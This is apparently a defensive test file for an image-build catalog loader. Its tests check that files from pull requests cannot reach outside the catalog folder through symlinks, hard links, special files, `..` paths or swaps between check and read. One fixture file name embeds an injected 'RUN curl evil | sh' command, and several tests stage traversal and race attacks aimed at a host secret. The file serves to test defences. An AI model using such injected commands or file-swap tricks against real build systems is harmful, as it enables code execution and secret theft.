// Catalog files come from pull requests: a file source must be a regular file
// inside the catalog folder, whatever links, special files or races the pull
// request (or a process racing the build) sets up, and a build uses the bytes
// that were read and hashed, never the file on disk again.
import { promises as fs } from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { CatalogError, loadCatalog, readCatalogFile } from "../../components/images/catalog";
import { contextPath, resolveImages } from "../../components/images/definition";
import { run } from "../../components/exec";

const BASE = `name: base\nversion: "1.0"\nsource: {rootfs: {suite: bookworm}}\n`;
const withSource = (source: string) => `${BASE}files: [{path: /etc/motd, source: ${JSON.stringify(source)}}]\n`;

describe("catalog file sources: regular files inside the catalog folder only", () => {
    let tmp: string;
    let catalog: string;
    /** A file outside the catalog folder: what a hostile pull request would bake into an image. */
    let secret: string;

    const problemsFor = (): string[] => {
        try {
            loadCatalog(catalog);
            return [];
        } catch (e) {
            if (e instanceof CatalogError) return e.problems;
            throw e;
        }
    };
    const useSource = (source: string) => fs.writeFile(path.join(catalog, "base.yaml"), withSource(source));

    beforeEach(async () => {
        tmp = await fs.mkdtemp(path.join(os.tmpdir(), "if-catalog-"));
        catalog = path.join(tmp, "images");
        await fs.mkdir(path.join(catalog, "files"), { recursive: true });
        await fs.writeFile(path.join(catalog, "files/motd"), "welcome\n");
        secret = path.join(tmp, "host-secret");
        await fs.writeFile(secret, "the build host's secret\n");
    });
    afterEach(() => fs.rm(tmp, { recursive: true, force: true }));

    it("accepts a regular file, and keeps the bytes it read", async () => {
        await useSource("files/motd");
        const c = loadCatalog(catalog);
        expect(c.sources.get("files/motd")?.toString()).toBe("welcome\n");
    });

    it("refuses a symbolic link to a file outside the catalog", async () => {
        await fs.symlink(secret, path.join(catalog, "files/link"));
        await useSource("files/link");
        expect(problemsFor()).toEqual(['images/base.yaml: files[0].source: "files/link" is a symbolic link; catalog files must be regular files inside the catalog folder']);
    });

    it("refuses a symbolic link even when it points inside the catalog", async () => {
        await fs.symlink("motd", path.join(catalog, "files/alias"));
        await useSource("files/alias");
        expect(problemsFor()[0]).toMatch(/"files\/alias" is a symbolic link/);
    });

    it("refuses a path through a linked folder", async () => {
        await fs.symlink(tmp, path.join(catalog, "outside"));
        await useSource("outside/host-secret");
        expect(problemsFor()).toEqual([
            'images/base.yaml: files[0].source: "outside/host-secret" goes through outside, which is a symbolic link; catalog files must be regular files inside the catalog folder',
        ]);
    });

    it("refuses a hard link (it may be a file of the host)", async () => {
        await fs.link(secret, path.join(catalog, "files/hard"));
        await useSource("files/hard");
        expect(problemsFor()[0]).toMatch(/"files\/hard" has 2 hard links; a hard link can reach a file outside the catalog folder/);
    });

    it("refuses a FIFO without blocking on it", async () => {
        await run("mkfifo", [path.join(catalog, "files/fifo")]);
        await useSource("files/fifo");
        expect(problemsFor()[0]).toMatch(/"files\/fifo" is a FIFO; catalog files must be regular files/);
    });

    it.skipIf(process.getuid?.() !== 0)("refuses a device node", async () => {
        await run("mknod", [path.join(catalog, "files/null"), "c", "1", "3"]);
        await useSource("files/null");
        expect(problemsFor()[0]).toMatch(/"files\/null" is a character device; catalog files must be regular files/);
    });

    it("refuses a folder, a missing file, `..` and absolute paths", async () => {
        for (const [source, why] of [
            ["files", "is a folder"],
            ["files/nope", "does not exist in the catalog folder"],
            ["files/../../host-secret", "must stay inside the catalog folder (no `..`)"],
            [secret, "must be relative to the catalog folder, not an absolute path"],
        ]) {
            await useSource(source);
            expect(problemsFor()[0]).toContain(`${JSON.stringify(source)} ${why}`);
        }
    });

    it("refuses a catalog file that is itself a link, or has a name that is not plain", async () => {
        await fs.writeFile(path.join(catalog, "base.yaml"), BASE);
        await fs.symlink(secret, path.join(catalog, "leak.yaml"));
        await fs.writeFile(path.join(catalog, "x\nRUN curl evil | sh\n.yaml"), BASE);
        expect(problemsFor()).toEqual([
            "images/leak.yaml: is a symbolic link; catalog files must be regular files inside the catalog folder",
            "images/x\\nRUN curl evil | sh\\n.yaml: not a valid catalog file name (letters, digits, . _ - and .yaml)",
        ]);
    });

    it("notices a file swapped for a link between the check and the read", async () => {
        const file = path.join(catalog, "files/motd");
        const swap = () => {
            require("node:fs").rmSync(file);
            require("node:fs").symlinkSync(secret, file);
        };
        expect(() => readCatalogFile(catalog, "files/motd", swap)).toThrow("changed between check and read (it is a symbolic link now)");
    });

    it("notices a folder swapped for a link between the check and the read", async () => {
        await fs.mkdir(path.join(tmp, "evil"));
        await fs.writeFile(path.join(tmp, "evil/motd"), "from outside\n");
        const swap = () => {
            require("node:fs").renameSync(path.join(catalog, "files"), path.join(tmp, "old-files"));
            require("node:fs").symlinkSync(path.join(tmp, "evil"), path.join(catalog, "files"));
        };
        expect(() => readCatalogFile(catalog, "files/motd", swap)).toThrow("changed between check and read (a different file is there now)");
    });

    it("notices a file replaced by another regular file between the check and the read", async () => {
        const file = path.join(catalog, "files/motd");
        const swap = () => {
            require("node:fs").writeFileSync(`${file}.new`, "other\n");
            require("node:fs").renameSync(`${file}.new`, file);
        };
        expect(() => readCatalogFile(catalog, "files/motd", swap)).toThrow("changed between check and read (a different file is there now)");
    });

    it("builds from the bytes that were hashed: a file edited after loading changes neither the context nor the hash", async () => {
        await useSource("files/motd");
        const c = loadCatalog(catalog);
        const first = resolveImages(c, ["base"]).get("base")!;
        await fs.writeFile(path.join(catalog, "files/motd"), "edited after the check\n");
        const again = resolveImages(c, ["base"]).get("base")!;
        expect(first.context.get(contextPath("/etc/motd"))?.toString()).toBe("welcome\n");
        expect(again.context.get(contextPath("/etc/motd"))?.toString()).toBe("welcome\n");
        expect(again.definitionHash).toBe(first.definitionHash);
    });

    it("a site customization's source goes through the same checks", async () => {
        await fs.writeFile(path.join(catalog, "base.yaml"), BASE);
        await fs.symlink(secret, path.join(catalog, "files/link"));
        const c = loadCatalog(catalog);
        expect(() => resolveImages(c, ["base"], { base: { files: [{ path: "/etc/x", source: "files/link" }] } })).toThrow(
            'image-factory:images.customizations.base.files[0].source: "files/link" is a symbolic link; catalog files must be regular files inside the catalog folder',
        );
    });
});
